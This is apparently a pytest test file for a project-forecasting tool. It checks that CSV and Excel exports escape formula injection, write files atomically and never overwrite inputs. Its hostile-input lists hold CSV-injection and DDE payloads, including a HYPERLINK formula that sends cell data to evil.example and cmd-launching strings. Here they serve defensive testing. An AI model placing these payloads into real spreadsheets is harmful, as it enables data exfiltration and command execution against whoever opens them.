"""The planning pack: safe writing (formula injection, atomic files, inputs never overwritten) and the pack itself."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import os
import re
import warnings
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml
from helpers import FEW_TRIALS, data_warnings, pack_settings, small_org

from pmo_forecast.core import schema as S
from pmo_forecast.core import workbook as W
from pmo_forecast.core.exceptions import DataQualityWarning, SettingsWarning, SmallSampleWarning
from pmo_forecast.core.labels import LABELS, UNKNOWN_CURRENCY, label
from pmo_forecast.core.results import fixed, round_half_away
from pmo_forecast.core.safe_files import PackWriter, refuse_inputs_as_outputs
from pmo_forecast.core.shown import PackTable
from pmo_forecast.reporting import export as X
from pmo_forecast.reporting.pack_sheets import EFFORT_THROUGHPUT_METHOD

# the packs here run 50 to 500 trials to be quick: that one SettingsWarning filtered by its words in every test (its
# words are asserted where they are the subject, in pytest.warns, which shows every warning whatever the filters)
pytestmark = pytest.mark.filterwarnings(f"ignore:{FEW_TRIALS.split(':')[0]}:pmo_forecast.core.exceptions.SettingsWarning")

# money headers end with the currency, here the sample people table's unnamed one
CODE_NAMES = {label(k, UNKNOWN_CURRENCY): k for k in LABELS}

#: What a pack of the small sample (helpers.small_org) rewound some weeks says of its open tasks without an estimate:
#: its category and words, as the rewound packs assert them
SAMPLE_NO_ESTIMATE = (DataQualityWarning, "3 open tasks have no positive estimate (PRJ-07-144, PRJ-08-226, "
                      "PRJ-08-230); their project's median estimate is used. Estimate them for a better forecast.")

# Text a spreadsheet would run, or that breaks naive writers: OWASP CSV-injection payloads,
# a DDE payload, tab/CR prefixes, a 10,000-character string, non-Latin scripts, emoji, newlines.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "x" * 10_000,
    "Проект Альфа 项目 プロジェクト مشروع",
    "🚀 launch 👩‍💻",
    "line one\nline two\r\nline three",
]


# --- escaping ----------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_formula_like_text_is_escaped_in_csv(text):
    assert W.is_formula_like(text)
    assert W.escape_csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["Ann Lee", "", "a=b", "1-2", 5, -1.5, None, np.nan])
def test_ordinary_values_pass_unchanged(value):
    out = W.escape_csv_value(value)
    assert out is value or (isinstance(value, float) and np.isnan(out))


def test_escape_frame_keeps_numbers_and_copies():
    df = pd.DataFrame({"name": pd.Series(["=2+3", "Bo"], dtype="string"), "hours": [-1.0, 2.0]})
    out = W.escape_csv_frame(df)
    assert out["name"].tolist() == ["'=2+3", "Bo"]
    assert out["hours"].tolist() == [-1.0, 2.0]  # a negative number is not text
    assert df["name"].iloc[0] == "=2+3"  # input untouched


def test_csv_round_trip_of_hostile_text(tmp_path):
    df = pd.DataFrame({"project": HOSTILE, "hours": np.arange(len(HOSTILE), dtype=float) - 3})
    W.write_csv(tmp_path / "t.csv", df)
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["project", "hours"]
    cells = [r[0] for r in rows[1:]]
    assert not any(c.startswith(W.FORMULA_PREFIXES) for c in cells)
    # escaped text is the original with one leading quote; the rest is byte-identical
    assert [c[1:] if W.is_formula_like(h) else c for c, h in zip(cells, HOSTILE, strict=True)] == HOSTILE
    assert [float(r[1]) for r in rows[1:]] == df["hours"].tolist()


def test_dates_beside_text_or_numbers_are_written_as_their_cells_show_them(tmp_path):
    # a date in a column of text ("after 2036-06-30") or of numbers (the Summary's forecast date) was written
    # with a time of day, "2026-11-06 00:00:00"
    df = pd.DataFrame({"finish_p80": [pd.Timestamp("2026-11-06"), "after 2036-06-30", pd.NaT],
                       "value": [pd.Timestamp("2026-06-29"), 12, pd.Timestamp("2026-06-29 09:30")]})
    W.write_csv(tmp_path / "t.csv", df)
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines() == [
        "finish_p80,value", "2026-11-06,2026-06-29", "after 2036-06-30,12", ",2026-06-29 09:30:00"]


def test_a_negative_number_beside_text_stays_a_number_in_csv(tmp_path):
    # the Summary's values column holds text and numbers: a typical overrun of -5% was written "'-0.05", text
    # escaped as a formula, since the numbers were made text before the escaping
    df = pd.DataFrame({"measure": ["overrun", "note", "=cmd"], "value": [-0.05, "-1 if late", 2.5]})
    W.write_csv(tmp_path / "t.csv", df)
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines() == [
        "measure,value", "overrun,-0.05", "note,'-1 if late", "'=cmd,2.5"]


def test_a_count_of_items_is_a_whole_number():
    # fuzz round 21: a throughput project's 128 remaining items showed as 128.00
    assert W.column_kind("remaining_items", pd.Series([128.0, np.nan])) == "int"


def test_a_cost_is_money_in_whole_units_not_hours():
    # review: "p50" in cost_p50 named the Summary's cost at completion an "hours" column (its format was right)
    costs = ("cost_p50", "cost_at_completion_p80", "hires_cost_first_year")
    assert [W.column_kind(c, pd.Series([12345.6])) for c in costs] == ["money"] * 3
    assert W.NUMBER_FORMATS["money"] == "#,##0"
    assert W.column_kind("cost_per_hour", pd.Series([85.5])) == "num"  # a rate, to the cent
    assert W.column_kind("effort_p50_hours", pd.Series([12345.6])) == "hours"


def test_hours_per_point_are_a_rate_to_two_decimals_not_whole_hours():
    # the Accuracy sheet's hours per point read 2 beside the Trends sheet's 2.37: "hours" in the name made them hours
    table = PackTable(pd.DataFrame({"median_hours_per_point": [2.374], "hours_per_point_p80": [3.125],
                                    "effort_p80_hours": [1234.5]}))
    assert table.shown().iloc[0].tolist() == ["2.37", "3.13", "1,235"]


def test_a_levels_words_do_not_make_a_share_or_days_whole_hours():
    # "p80" and "p90" in a name made it hours: an uplift of +60% read 1, a P90 wait of 9.2 working days read 9
    # (while a P85 wait, no hours' word, read 9.2)
    table = PackTable(pd.DataFrame({"uplift_p80": [0.604], "approval_wait_p90_days": [9.17],
                                    "approval_wait_p85_days": [9.17], "contingency_p80": [1234.5]}))
    assert table.shown().iloc[0].tolist() == ["+60%", "9.2", "9.2", "1,235"]


def test_excel_text_is_cut_at_excels_limit():
    assert W.excel_text("a" * 40_000).__len__() == W.EXCEL_MAX_CHARS
    assert W.excel_text("short") == "short"


# --- the workbook writer -----------------------------------------------------
def test_workbook_writes_hostile_text_as_text(tmp_path):
    df = pd.DataFrame({"project_id": HOSTILE, "p80": np.linspace(1, 2, len(HOSTILE)),
                       "prob_overrun": np.linspace(0, 1, len(HOSTILE)),
                       "due": pd.date_range("2026-07-01", periods=len(HOSTILE))})
    sheet = W.Sheet("Projects", "=HYPERLINK(\"x\")", [W.Block("projects", "-title", df)])
    W.write_workbook(tmp_path / "p.xlsx", [sheet])
    wb = openpyxl.load_workbook(tmp_path / "p.xlsx")
    ws = wb["Projects"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formulas at all
    # xlsxwriter stores CR as the OOXML escape _x000D_, which Excel decodes and openpyxl does not
    texts = {c.value.replace("_x000D_", "\r"): c for c in cells if isinstance(c.value, str)}
    assert set(HOSTILE) <= set(texts)  # every character survives, as text
    assert texts['=HYPERLINK("x")'].quotePrefix  # shown as text when edited in Excel
    assert texts["-1+1"].quotePrefix
    header = [c.value for c in ws[5]]
    assert header[:4] == ["project_id", "p80", "prob_overrun", "due"]
    assert ws.freeze_panes == "B6"
    assert ws.cell(6, 2).number_format == W.NUMBER_FORMATS["hours"]
    assert ws.cell(6, 3).number_format == W.NUMBER_FORMATS["pct"]
    assert ws.cell(6, 4).number_format == W.NUMBER_FORMATS["date"]


def test_a_small_negative_number_is_zero_at_the_precision_its_cell_shows(tmp_path):
    # fuzz: "-0%" and "-0.00" on the sheets (Capacity's Little's law gap -0.00338 in 0%, What changed's change in
    # the chance over budget -0.00333 in 0%, Trends' task bias -0.0039 in #,##0.00), where the text says 0
    shown = {"pct": [-0.00338, -0.005, -0.2], "num": [-0.0039, -0.005, -1.25], "hours": [-0.4, -0.5, -3.0],
             "days": [-0.04, -0.05, -2.5]}
    df = pd.DataFrame({**shown, "general": [-0.001, 0.25, np.nan]})
    W.write_workbook(tmp_path / "z.xlsx", [W.Sheet("Z", "z", [W.Block("z", "z", df, formats={
        **{c: c for c in shown}, "general": "text"})])])
    ws = openpyxl.load_workbook(tmp_path / "z.xlsx")["Z"]
    cells = {ws.cell(5, k + 1).value: [ws.cell(r, k + 1).value for r in (6, 7, 8)] for k in range(len(df.columns))}
    # rounds to zero where shown: 0; a half rounds away from zero (Excel shows -1%, -0.01, -1, -0.1): kept
    assert cells == {"pct": [0, -0.005, -0.2], "num": [0, -0.005, -1.25], "hours": [0, -0.5, -3],
                     "days": [0, -0.05, -2.5], "general": [-0.001, 0.25, None]}


def test_a_note_wider_than_its_sheet_is_wrapped_over_it_left_of_a_chart_beside_it(tmp_path):
    # a 612-character note on the Summary overflowed to the right, widening the page that is printed one page
    # wide: LibreOffice printed the whole sheet at 60%, Excel cut the note at the last column
    df = pd.DataFrame({"project_id": ["P-1", "P-2"], "effort_p50_hours": [10.0, 12.0],
                       "effort_p80_hours": [12.0, 15.0], "effort_p90_hours": [13.0, 17.0]})
    long, short = "word " * 60, "a short note"
    sheets = [W.Sheet("Charted", "t", [W.Block("projects", "Projects", df.iloc[:, :2], note=long),
                                       W.Block("more", "More", df, note=short)],
                      charts=[("fan", "more", {"budget": False})]),
              W.Sheet("Plain", "t", [W.Block("projects", "Projects", df, note=long)])]
    W.write_workbook(tmp_path / "n.xlsx", sheets)
    book = openpyxl.load_workbook(tmp_path / "n.xlsx")
    charted, plain = book["Charted"], book["Plain"]
    # the chart sits right of the first table (2 columns: from column D), so the note spans A:C, wrapped
    assert [str(r) for r in charted.merged_cells.ranges] == ["A5:C5"]
    assert charted["A5"].value == long and charted["A5"].alignment.wrap_text
    # 300 characters over A:C's 45 characters of width (the widths as written, before Excel's padding):
    # six lines of 15 points
    assert charted.row_dimensions[5].height == 90
    assert [str(r) for r in plain.merged_cells.ranges] == ["A5:D5"]  # no chart: every column the sheet uses
    assert not charted["A12"].alignment.wrap_text and charted["A12"].value == short  # a short note as it was


def _cut_labels(ws, title: str) -> list[str]:
    """The labels of the block ``title`` with a value beside them that their column cannot show whole: longer than it
    is wide (in characters) and not wrapped over a row high enough for their lines at that width."""
    import textwrap

    rows = list(ws.iter_rows())
    start = next(i for i, r in enumerate(rows) if r[0].value == title)
    header = next(i for i in range(start + 1, len(rows)) if rows[i][0].font.b)
    cut = []
    for row in rows[header + 1:]:
        if row[0].value is None:
            break
        for c, cell in enumerate(row[:-1]):
            if not isinstance(cell.value, str) or row[c + 1].value is None:
                continue
            width = int(ws.column_dimensions[cell.column_letter].width)  # as written, before Excel's padding
            lines = len(textwrap.wrap(cell.value, width))
            high = ws.row_dimensions[cell.row].height or 15
            if lines > 1 and not (cell.alignment.wrap_text and high >= 15 * lines):
                cut.append(cell.value)
    return cut


def test_a_label_longer_than_its_column_beside_a_value_is_wrapped_over_a_row_that_holds_it(tmp_path, book):
    # the Summary's longest headline labels ("Task bias (+ over, - under estimate) in the 12 months to 2026-06-29
    # (4,104 finished with both)") were cut off by the value beside them: columns are 50 characters at most
    label = "Task bias (+ over, - under estimate) in the 12 months to 2026-06-29 (4,104 finished with both)"
    message = "A key message alone in its row, longer than its column, overflowing into the empty cells beside it"
    df = pd.DataFrame({"measure": ["short", label, "=1+" + label], "value": [1.0, 0.06, 2.0]})
    W.write_workbook(tmp_path / "l.xlsx", [W.Sheet("L", "t", [
        W.Block("messages", "Key messages", pd.DataFrame({"message": [message]}), excel_table=False),
        W.Block("summary", "Headline numbers", df)])])
    ws = openpyxl.load_workbook(tmp_path / "l.xlsx")["L"]
    assert ws.column_dimensions["A"].width == pytest.approx(50.71, abs=0.01)  # the cap, with Excel's padding
    cells = {c.value: c for c in ws["A"]}
    assert [(cells[v].alignment.wrap_text, ws.row_dimensions[cells[v].row].height)
            for v in ("short", label, "=1+" + label)] == [(None, None), (True, 30), (True, 30)]
    assert cells["=1+" + label].quotePrefix  # still quoted: text, never a formula
    assert not cells[message].alignment.wrap_text and ws.row_dimensions[cells[message].row].height is None
    assert _cut_labels(ws, "Headline numbers") == []
    # the pack's Summary: every headline and bridge label whole, Key messages as they were (one line each)
    summary = book["Summary"]
    assert _cut_labels(summary, "Headline numbers") == _cut_labels(summary, "From plan to forecast, all open "
                                                                             "projects (hours)") == []
    assert not [c.value for c in summary["A"] if c.alignment.wrap_text and str(c.value).startswith("The PM pool")]


# --- atomic writing and refusing inputs --------------------------------------
def test_pack_writer_commits_all_files(tmp_path):
    with PackWriter(tmp_path / "out", last="b.xlsx") as w:
        w.path("a.csv").write_text("1")
        w.path("b.xlsx").write_text("2")
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["a.csv", "b.xlsx"]
    mode = (tmp_path / "out" / "a.csv").stat().st_mode & 0o777
    assert mode & 0o044  # readable by others, like any file (mkdtemp staging is private)


def test_interrupted_pack_leaves_previous_pack(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "pack.xlsx").write_text("old pack")
    # the very interrupt raised inside, not another
    with pytest.raises(KeyboardInterrupt, match="^Ctrl-C while writing$"), PackWriter(out, last="pack.xlsx") as w:
        w.path("pack-projects.csv").write_text("new")
        w.path("pack.xlsx").write_text("half")
        raise KeyboardInterrupt("Ctrl-C while writing")
    assert sorted(p.name for p in out.iterdir()) == ["pack.xlsx"]  # no staging folder, no partial file
    assert (out / "pack.xlsx").read_text() == "old pack"


def _previous_pack(out):
    out.mkdir()
    for name in ("pack-projects.csv", "summary.html", "pack.xlsx"):
        (out / name).write_text(f"old {name}")


def _fail_on(monkeypatch, failing):
    """os.replace raising as Windows does for a file another program holds (Excel, the open workbook)."""
    real = os.replace

    def replace(src, dst):
        if failing(Path(src), Path(dst)):
            raise PermissionError(13, "The process cannot access the file because it is being used by another "
                                      "process", str(dst))
        return real(src, dst)

    monkeypatch.setattr(os, "replace", replace)


@pytest.mark.parametrize("failing", [
    lambda src, dst: dst.name == "pack.xlsx",  # the workbook open in Excel: it cannot be moved aside
    lambda src, dst: src.name == "pack.xlsx" and src.parent.name.startswith(".pack-staging-"),  # nor the new one put in
], ids=["moving the previous workbook aside", "putting the new workbook in"])
def test_a_pack_that_cannot_replace_a_file_keeps_the_previous_pack_whole(tmp_path, monkeypatch, failing):
    # fuzz: with the workbook open in Excel on Windows the run stopped (exit 2) after every CSV and summary.html had
    # been replaced by the new pack's (17 of 31 files), beside the previous workbook
    out = tmp_path / "out"
    _previous_pack(out)
    _fail_on(monkeypatch, failing)
    with pytest.raises(PermissionError) as e, PackWriter(out, last="pack.xlsx", stale_glob="pack-*.csv") as w:
        for name in ("pack-projects.csv", "pack-new.csv", "summary.html", "pack.xlsx"):
            w.path(name).write_text(f"new {name}")
    assert e.value.filename == str(out / "pack.xlsx")  # the command line says "<filename>: <strerror>"
    assert e.value.strerror == ("cannot be replaced (The process cannot access the file because it is being used by "
                                "another process); if it is open in another program (Excel), close it and run again: "
                                "nothing of the new pack was written, the previous one is kept")
    assert {p.name: p.read_text() for p in out.iterdir()} == {
        "pack-projects.csv": "old pack-projects.csv", "summary.html": "old summary.html", "pack.xlsx": "old pack.xlsx"}


def test_an_output_folder_that_cannot_be_written_is_said_before_the_work(tmp_path, monkeypatch):
    # fuzz round 24: on a read-only disk the run computed for 12 s, then named its hidden staging folder
    # (".pack-staging-...: Read-only file system")
    out = tmp_path / "ro"
    _previous_pack(out)
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode, **kw: False if Path(p) == out else real(p, mode, **kw))
    with pytest.raises(OSError) as e:  # before the tasks are read: this file does not exist
        X.export_planning_pack(out / "pack.xlsx", tasks=tmp_path / "no-such-tasks.csv", progress=False)
    assert e.value.filename == str(out)
    assert e.value.strerror == (f"cannot write the pack into this folder ({out} cannot be written); choose another "
                                "output folder: the previous pack there is kept")
    assert (out / "pack.xlsx").read_text() == "old pack.xlsx"
    assert not (tmp_path / "new").exists() and PackWriter.check_writable(tmp_path / "new" / "deeper") is None


def test_a_file_that_cannot_be_put_back_is_kept_and_said(tmp_path, monkeypatch):
    out = tmp_path / "out"
    _previous_pack(out)
    _fail_on(monkeypatch, lambda src, dst: src.name == "pack.xlsx" and src.parent.name.startswith(".pack-staging-")
             or src.name == "summary.html" and src.parent.name == ".previous")
    with pytest.raises(OSError, match=r"^the previous pack's summary.html could not be put back into .*out: it is in "
                                      r".*out/\.pack-staging-\w+/\.previous$"), \
            PackWriter(out, last="pack.xlsx") as w:
        for name in ("pack-projects.csv", "summary.html", "pack.xlsx"):
            w.path(name).write_text(f"new {name}")
    kept = next(out.glob(".pack-staging-*")) / ".previous" / "summary.html"
    assert kept.read_text() == "old summary.html"  # never deleted with the staging folder
    assert (out / "pack-projects.csv").read_text() == "old pack-projects.csv"


def test_stale_tables_of_an_older_pack_are_removed(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "pack-scenarios.csv").write_text("from an older run with scenarios")
    (out / "notes.txt").write_text("not ours")
    with PackWriter(out, last="pack.xlsx", stale_glob="pack-*.csv") as w:
        w.path("pack-projects.csv").write_text("new")
        w.path("pack.xlsx").write_text("new")
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt", "pack-projects.csv", "pack.xlsx"]


def test_output_that_is_an_input_is_refused(tmp_path):
    f = tmp_path / "tasks.csv"
    f.write_text("x")
    with pytest.raises(ValueError, match="refusing to write .*tasks.csv: it is one of the input files"):
        refuse_inputs_as_outputs([tmp_path / "sub" / ".." / "tasks.csv"], [f])
    link = tmp_path / "link.csv"
    os.symlink(f, link)
    with pytest.raises(ValueError, match="one of the input files"):
        refuse_inputs_as_outputs([link], [f])
    refuse_inputs_as_outputs([tmp_path / "other.csv"], [f])  # no error


# --- the whole pack, on a small generated organisation with hostile names -------------
# Names a tracker could hold: every text column of the pack (project, person, type) gets some.
HOSTILE_PROJECTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
                    "@SUM(1+1)", "Проект Альфа 项目", "🚀 launch 👩‍💻", "line one\nline two", "p" * 10_000]
HOSTILE_PEOPLE = ["=1+2", "-Ada Quist", "@Bo", "Зоя Ли", "李 娜", "Émile 🙂"]
HOSTILE_ROLE = "=Summary!$A$1"  # xlsxwriter reads a series name like this as a cell reference
HOSTILE_MANAGERS = ["=cmd|' /C notepad'!'A1'", "+Mgr", "\tTab Mgr"]
N_TRIALS = 500
REPO = Path(__file__).resolve().parent.parent
SCENARIOS = [REPO / "data/scenarios/one-more-pm.yaml"]  # a path: read and checksummed like the tables


def _hostile(sample):
    tasks, projects, people, requests = (df.copy() for df in sample)
    open_ids = tasks.loc[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES), S.PROJECT_ID].unique()
    ids = sorted(projects[S.PROJECT_ID].unique(), key=lambda p: (p not in open_ids, p))  # open ones first
    pmap = dict(zip(ids, HOSTILE_PROJECTS, strict=True))
    counts = tasks[S.ASSIGNEE].value_counts()
    busiest = sorted(counts.index, key=lambda n: (-counts[n], n))[:len(HOSTILE_PEOPLE)]
    nmap = dict(zip(busiest, HOSTILE_PEOPLE, strict=True))
    managers = sorted(set(projects.loc[projects[S.PROJECT_ID].isin(open_ids), S.MANAGER]) - set(nmap))
    nmap.update(zip(managers, HOSTILE_MANAGERS, strict=False))
    for df, cols, m in ((tasks, [S.PROJECT_ID], pmap), (projects, [S.PROJECT_ID], pmap),
                        (requests, [S.PROJECT_ID], pmap), (tasks, [S.ASSIGNEE], nmap),
                        (people, [S.PERSON], nmap), (projects, [S.MANAGER], nmap), (requests, [S.HANDLER], nmap)):
        for c in cols:
            df[c] = df[c].replace(m)
    tasks[S.TASK_TYPE] = tasks[S.TASK_TYPE].replace({"review": "=review()", "deploy": "+deploy"})
    people[S.ROLE] = people[S.ROLE].replace({"analyst": HOSTILE_ROLE})  # a chart series name
    return tasks, projects, people, requests


@pytest.fixture(scope="module")
def data():
    return _hostile(small_org())


@pytest.fixture(scope="module")
def pack(data, tmp_path_factory):
    tasks, projects, people, requests = data
    out = tmp_path_factory.mktemp("pack")
    return X.export_planning_pack(out / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, scenarios=SCENARIOS, n_trials=N_TRIALS, random_state=3,
                                  progress=False, people_detail="named")  # every person's name on some sheet


@pytest.fixture(scope="module")
def book(pack):
    return openpyxl.load_workbook(pack.path)


def _block(ws, title):
    """A block of the sheet as a DataFrame: the rows under the header following ``title``."""
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    # the title alone on its row: a headline row may hold the same words beside its value (projects at risk)
    start = next(i for i, r in enumerate(rows) if r[0] == title and all(v is None for v in r[1:]))
    header = start + 1 if rows[start + 1][0] is not None and ws.cell(start + 2, 1).font.b else start + 2
    names = [CODE_NAMES.get(v, v) for v in rows[header] if v is not None]  # plain headers back to columns
    body = []
    for r in rows[header + 1:]:
        if all(v is None for v in r):
            break
        body.append(r[:len(names)])
    return pd.DataFrame(body, columns=names)


def test_sheets_in_order(book):
    assert book.sheetnames == ["Summary", "Projects", "Accuracy", "Capacity", "Scenarios", "Trends",
                               "Data quality", "Assumptions"]


def test_no_formula_anywhere_and_hostile_text_is_quoted(book):
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} holds a formula"
                if isinstance(c.value, str):
                    seen.add(c.value)
                    if c.value.startswith(W.FORMULA_PREFIXES):
                        assert c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value[:20]!r} is not quote-prefixed"
    assert set(HOSTILE_PROJECTS[:4]) <= seen
    assert {"=1+2", "-Ada Quist", "Зоя Ли", "李 娜", "Émile 🙂", "=review()", "+deploy"} <= seen
    assert HOSTILE_MANAGERS[0] in seen  # the manager of an open project, on the Projects sheet


def test_csv_tables_are_escaped(pack):
    for f in pack.files:
        if f.suffix != ".csv":
            continue
        with open(f, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                bad = [v for v in row if v.startswith(W.FORMULA_PREFIXES) and not _number(v)]
                assert not bad, f"{f.name}: {bad[:3]}"


def test_csv_numbers_have_six_significant_figures_not_float_noise(pack):
    # the CSVs wrote 17170.000000000004 and 0.8599092409240927: noise no forecast means, and digits that
    # differ from one machine to the next
    from pmo_forecast.core.results import csv_number

    assert [csv_number(x) for x in (17170.000000000004, 0.8599092409240927, 1234567.89, 1e-7, -0.0, 2.5)] == [
        "17170", "0.859909", "1234567.89", "0.0000001", "0", "2.5"]  # never fewer than cents: money adds up
    numbers = []
    for f in pack.files:
        if f.suffix == ".csv":
            with open(f, encoding="utf-8-sig", newline="") as fh:
                numbers += [v for row in csv.reader(fh) for v in row if re.fullmatch(r"-?\d+\.\d+", v)]
    assert len(numbers) > 100
    digits = [len(v.lstrip("-").replace(".", "").lstrip("0")) for v in numbers]
    decimals = [len(v.partition(".")[2]) for v in numbers]  # six significant figures, or cents if more
    assert all(d <= 6 or n <= 2 for d, n in zip(digits, decimals, strict=True))


def test_the_bridge_words_its_steps_so_that_no_guard_quote_is_needed(pack):
    # fuzz round 4: the CSV read '+ Scope growth and '= Expected effort at completion: the formula guard's quote
    # is for text from the data, the package's own labels start with no + - = @
    f = next(f for f in pack.files if f.name.endswith("-plan-to-forecast.csv"))
    with open(f, encoding="utf-8-sig", newline="") as fh:
        steps = [row[0] for row in csv.reader(fh)][1:]
    assert steps == ["Budget of the open projects", "Already over budget", "Spent so far", "Remaining estimate",
                     "Plan at completion", "Plus estimate bias on open tasks", "Plus scope growth",
                     "Plus shared project and person factors", "Equals expected effort at completion",
                     "Effort at completion, 80% sure, all projects together", "Sum of each project's 80%-sure effort"]


def _number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_projects_sheet_matches_the_forecast(pack, book):
    ws = book["Projects"]
    assert ws.freeze_panes == "B6"
    sheet = _block(ws, "Per project")
    fc = pack.forecasts["overrun"].by_project()
    assert sheet["project_id"].tolist() == [str(p) for p in fc.index]
    for mine, theirs in (("effort_p50_hours", "p50"), ("effort_p80_hours", "p80"), ("effort_p90_hours", "p90"),
                         ("prob_overrun", "prob_overrun"), ("contingency_p80", "contingency_p80"),
                         ("budget_hours", S.BUDGET)):
        np.testing.assert_allclose(sheet[mine].astype(float), fc[theirs].to_numpy(float), rtol=1e-12)
    header = {CODE_NAMES.get(c.value, c.value): c.column for c in ws[5]}
    assert ws.cell(6, header["effort_p80_hours"]).number_format == W.NUMBER_FORMATS["hours"]
    assert ws.cell(6, header["prob_overrun"]).number_format == W.NUMBER_FORMATS[W.CHANCE]  # 0 < P < 1: "<1%", ">99%"
    assert ws.cell(6, header["due"]).number_format == W.NUMBER_FORMATS["date"]
    assert ws.column_dimensions["A"].width >= 10


def test_native_charts(pack):
    import zipfile

    with zipfile.ZipFile(pack.path) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    assert any("Effort at completion" in c and "Projects" in c for c in charts)  # fan chart on Projects data


def test_summary_headline_numbers(pack, book):
    kpis = _block(book["Summary"], "Headline numbers").set_index("measure")["value"]
    port = pack.forecasts["overrun"].portfolio().iloc[0]
    assert kpis["Effort still to spend, P80 (hours)"] == pytest.approx(port["p80"] - port["spent_hours"], rel=1e-12)
    assert kpis["Open projects forecast"] == len(pack.forecasts["overrun"].project_ids)
    fit = pack.forecasts["queue"]
    assert kpis["PM-pool utilisation (queue model)"] == pytest.approx(fit.queue.utilisation, rel=1e-12)
    # the peak ahead: all staff's demand over capacity in the weeks from the one holding the as-of date
    # (the per-person table's "from the forecast date on") with work to do
    wl = pack.forecasts["workload"]
    t = wl.table
    first = pd.Timestamp(wl.as_of).to_period(wl.freq).start_time
    weeks = t.loc[(t["period"] >= first) & (t["open_hours"] > 0), "period"].unique()
    g = t[t["period"].isin(weeks)].groupby("period")[["demand_hours", "capacity_hours"]].sum()
    assert kpis["Peak weekly utilisation, next 26 weeks, all staff"] == pytest.approx(
        (g["demand_hours"] / g["capacity_hours"]).max(), rel=1e-12)


def test_assumptions_record_inputs_and_settings(book, data, pack):
    from pmo_forecast import estimate_pace

    ws = book["Assumptions"]
    run = _block(ws, "Run").set_index("setting")["value"]
    assert run["Monte Carlo trials"] == N_TRIALS and run["random seed"] == 3
    # too few trials for the meeting: said with the size of the error (0.5 / sqrt(500) = 2.2 points)
    assert run["check: Monte Carlo trials"].startswith("500 Monte Carlo trials: a probability such as P(late) "
                                                       "is uncertain by up to 2.2 percentage points")
    inputs = _block(ws, "Input files")
    assert inputs["input"].tolist() == ["tasks", "projects", "people", "requests", "scenario one-more-pm"]
    assert inputs["sha256"].iloc[-1] == hashlib.sha256(SCENARIOS[0].read_bytes()).hexdigest()
    settings = _block(ws, "Model settings").set_index("setting")["value"]
    assert settings["accuracy model: random seed"] == 3
    # numbers at the tables' precision (fuzz round 21: 0.0115980721693972 in a General cell)
    named = {"rate": "overrun: scope growth, mean share added to a project's plan",
             "cv": "overrun: scope growth, spread between projects (coefficient of variation)"}
    for k, v in pack.forecasts["overrun"].scope_growth.items():
        if isinstance(v, float):
            assert settings[named[k]] == float(f"{v:.3g}") != v, k
    # what the accuracy model chose from the data, and why: a fallback is never silent
    model = pack.forecasts["model"]
    assert settings["accuracy model: recency half-life used (days)"] == (model.half_life_ or "none (all history alike)")
    # the sample books in quarter hours: its forecasts are whole quarter hours, and the pack says so
    assert settings["accuracy model: booking unit of actuals (hours; the model's quantiles and draws are whole "
                    "units)"] == 0.25
    assert settings["accuracy model: booking unit chosen because"] == (
        "100% of the actuals are whole multiples of it: quantiles whole units of 0.25 h; no larger unit booking "
        "most of them held better on 4 later folds (lower coverage error at no higher pinball)")
    rec = settings["accuracy model: recalibration used"]
    assert rec == f"{model.recalibration_['strategy']}: {model.recalibration_['reason']}"
    chosen = model.summary(by="selection").query("chosen")
    assert settings["accuracy model: forecast used"] == f"{chosen.index[0]}: {chosen['reason'].iat[0]}"
    # done tasks the model cannot learn from are counted (the fit dropped them without a word)
    tasks = data[0]
    done = tasks[tasks[S.STATUS] == S.DONE]
    zero = int(((done[S.ESTIMATE] > 0) & (done[S.ACTUAL] == 0)).sum())
    assert zero and model.n_left_out_["actual 0"] == zero
    assert sum(model.n_left_out_.values()) == len(done) - model.n_tasks_
    assert settings["accuracy model: done tasks left out"].startswith(
        f"{len(done) - model.n_tasks_} done tasks left out: ")
    assert f"{zero} actual 0" in settings["accuracy model: done tasks left out"]
    # the meeting sees how far the stated capacity held lately (finish dates assume it all)
    pool = estimate_pace(data[0], data[2], as_of=run["as of"]).attrs["pool"]
    row = next(k for k in settings.index if k.startswith("pace delivered in the last 13 weeks"))
    assert settings[row] == round_half_away(pool, 2)  # at the precision 'finish dates: capacity used' says it


def test_what_the_backdated_plans_warned_is_listed_on_the_assumptions_sheet(book, pack):
    # 'finish dates: capacity used' counted "11 warnings of the backdated plans on the table as it stood at 8 cuts,
    # not warned (the slip's backdated_said lists them)", and no sheet listed them: each is a row, with its cuts; the
    # count says where they are in the analyst's words, not by the attribute that holds them
    settings = _block(book["Assumptions"], "Model settings")
    capacity = settings.set_index("setting").at["finish dates: capacity used", "value"]
    assert capacity.endswith("; 11 warnings of the backdated plans on the table as it stood at 8 cuts, not warned "
                             "(listed in Assumptions as 'finish dates: a warning of the backdated plans')")
    rows = settings.loc[settings["setting"] == "finish dates: a warning of the backdated plans",
                        "value"].tolist()
